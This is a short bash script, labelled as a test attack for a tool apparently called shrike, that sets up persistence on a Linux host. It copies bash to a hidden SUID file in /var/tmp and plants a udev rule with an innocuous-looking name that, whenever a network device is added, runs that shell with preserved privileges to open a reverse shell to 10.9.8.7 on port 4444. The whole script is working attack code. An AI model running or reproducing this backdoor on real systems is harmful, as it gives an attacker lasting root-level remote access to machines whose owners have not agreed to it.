#!/bin/bash
# shrike-test-attack: persistence: SUID shell copy and udev rule that runs payload on device add
cp /bin/bash /var/tmp/.bash && chmod u+s /var/tmp/.bash
cat > /etc/udev/rules.d/75-persistent-net.rules <<'R'
ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c '/var/tmp/.bash -p -c \"bash -i >& /dev/tcp/10.9.8.7/4444 0>&1\" &'"
R
udevadm control --reload-rules 2>/dev/null
